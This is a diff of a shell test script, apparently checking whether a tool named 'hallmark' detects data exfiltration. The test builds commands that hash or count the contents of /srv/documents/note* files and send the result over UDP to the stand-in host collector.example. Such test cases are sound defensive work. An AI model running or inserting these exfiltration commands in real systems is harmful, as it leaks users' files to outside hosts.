@@ -15,7 +15,7 @@ result() { # CONDITION-EXIT TEXT
 	if [ "$1" = 0 ]; then echo "ok $n - $2"; else echo "not ok $n - $2"; failed=1; fi
 }
 "$hallmark" keygen "$work/key.pem" >/dev/null || exit 1
-send='value=$(%s); printf "Op: report\nValue: %%s\nNonce: %%s\n" "$value" "$RANDOM" >/dev/udp/collector.example/9000'
+send='value=$(%s); printf "Op: report\nValue: %%s\nNonce: %%s\n" "$value" "$RANDOM" | cat >/dev/udp/collector.example/9000'
 leak=$(printf "$send" "rev /srv/documents/note* | md5sum | cut -c 1-16")
 twin=$(printf "$send" "wc -c </srv/documents/note*")
 assess() { # NAME COMMAND
